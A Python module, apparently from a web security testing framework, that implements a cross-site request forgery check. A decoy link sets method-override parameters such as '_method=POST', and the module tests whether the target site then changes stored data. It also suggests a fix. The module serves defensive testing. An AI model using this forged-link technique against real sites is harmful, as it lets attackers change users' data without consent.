"""A link of the attacker's says which method it means: ``?_method=POST``, and the site believes it.

Oracle: as ``forgery``'s. A link is safe by its method, so that no check of tokens asks.
"""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlencode

from ringfence.prove.aims import answers
from ringfence.prove.discover.filling import filled
from ringfence.prove.forging import FIX, changing_forms, form_of
from ringfence.prove.stage import Attack, Outcome, Result, Target, new_marker, one_by_one

if TYPE_CHECKING:
    from ringfence.prove.stage import Stage

__all__ = ["ATTACK"]

_NAMES = ("_method", "method", "_http_method", "X-HTTP-Method-Override")


def _strike(stage: Stage, target: Target) -> Result:
    marker = new_marker()
    fields = filled(form_of(target), marker)
    address = f"{stage.url(target.path)}?{urlencode([*((n, 'POST') for n in _NAMES), *fields])}"
    mark = stage.mark()
    link = f'<!doctype html><title>Cats</title><a id="link" href="{address}">cats</a>'
    stage.follow(stage.serve(link.replace("&", "&amp;")))
    exchange = stage.request_since(mark, "GET", target.path)
    where = stage.stored(marker)
    if where is not None:
        return Result(Outcome.SUCCEEDED, "changed", f"{where} holds what the attacker's link said")
    if exchange is not None and exchange.crashed:
        return Result(Outcome.INCONCLUSIVE, "crash", f"the site answered {exchange.status}")
    return Result(Outcome.STOPPED, "nothing changed", "the link changed nothing")


ATTACK = Attack(
    name="forgery_override",
    title="a link that overrides its method",
    cwe="CWE-352",
    stopped_by=(),
    find=changing_forms,
    strike=one_by_one(_strike),
    use=answers,
    fix=FIX + "; believe no method that a request names beside its own",
    changes=True,
    guess=True,
)
